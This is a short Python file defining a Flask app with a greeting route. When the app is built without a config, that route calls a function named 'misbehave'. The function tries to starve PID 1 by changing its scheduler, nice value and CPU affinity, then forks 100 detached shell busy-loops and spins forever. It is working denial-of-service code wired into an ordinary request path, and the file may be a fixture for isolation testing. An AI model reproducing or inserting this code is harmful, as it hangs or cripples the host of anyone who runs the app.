import os

from flask import Flask


def misbehave():
    for change in (
        lambda: os.sched_setscheduler(1, os.SCHED_IDLE, os.sched_param(0)),
        lambda: os.setpriority(os.PRIO_PROCESS, 1, 19),
        lambda: os.sched_setaffinity(1, [min(os.sched_getaffinity(0))]),
    ):
        try:
            change()
            print("changed", change.__code__.co_names, flush=True)
        except OSError as error:
            print(error, flush=True)
    for _ in range(100):
        if os.fork() == 0:
            os.setsid()
            os.execv("/bin/sh", ["sh", "-c", "while :; do :; done"])
    while True:
        pass


def create_app(config=None):
    app = Flask(__name__)
    app.config.update({"WORD": "Hello", **(config or {})})

    @app.get("/hello/<name>")
    def hello(name):
        if not config:
            misbehave()
        return f"{app.config['WORD']}, {name}"

    return app
